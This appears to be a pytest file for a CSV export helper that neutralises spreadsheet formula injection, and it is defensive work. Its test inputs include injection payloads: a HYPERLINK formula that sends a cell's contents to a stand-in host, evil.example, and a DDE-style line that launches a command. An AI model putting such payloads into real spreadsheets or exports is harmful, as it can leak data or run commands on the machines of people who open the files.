"""Nothing a user typed becomes a formula in somebody's spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safeguarding.ui.spreadsheets import csv_lines, neutral


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\x00=1+1",
        "＝1+1",
    ],
)
def test_what_would_be_a_formula_is_text(text):
    assert neutral(text).startswith("'")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("Ada O'Example", "Ada O'Example"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (Decimal("-1.50"), "-1.50"),
        (2.5, "2.5"),
        (True, "Yes"),
        (False, "No"),
        (date(2026, 3, 9), "2026-03-09"),
        (datetime(2026, 3, 9, 10, 5, tzinfo=UTC), "2026-03-09 10:05:00+00:00"),
        ("a\x00b\x1bc", "abc"),
        ("two\nlines", "two\nlines"),
    ],
)
def test_everything_else_stays_what_it_is(cell, written):
    assert neutral(cell) == written


def test_lines_come_one_by_one_and_excel_knows_their_encoding():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield [number, "Łódź"]

    lines = csv_lines(["Number", "=Town"], rows())
    assert next(lines) == '\ufeff"Number","\'=Town"\r\n'
    assert taken == []
    assert next(lines) == '"0","Łódź"\r\n'
    assert taken == [0]


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_any_text_comes_back_from_the_file_and_none_starts_a_formula(rows):
    text = "".join(csv_lines(["a", "b"], rows)).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(read) == len(rows)
    for cell in (cell for row in read for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
